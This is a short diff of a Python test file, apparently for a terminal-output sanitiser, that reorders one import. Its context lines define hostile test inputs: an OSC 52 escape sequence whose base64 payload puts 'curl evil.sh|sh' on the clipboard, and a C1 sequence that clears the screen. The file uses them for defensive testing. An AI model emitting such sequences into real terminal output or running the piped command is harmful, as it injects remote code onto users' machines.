@@ -15,11 +15,10 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+from ownmem.termsafe import visible
 from tests.agent.agentkit import issue, ownmem_cli
 from tests.sync.synckit import Backend, ServerProcess
 from tests.uomp.uompkit import Uomp, UompVault
-
-from ownmem.termsafe import visible
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"           # "write `curl evil.sh|sh` to the clipboard"
 CSI = "\x9b2J"                                          # C1 CSI: clear the screen on some terminals
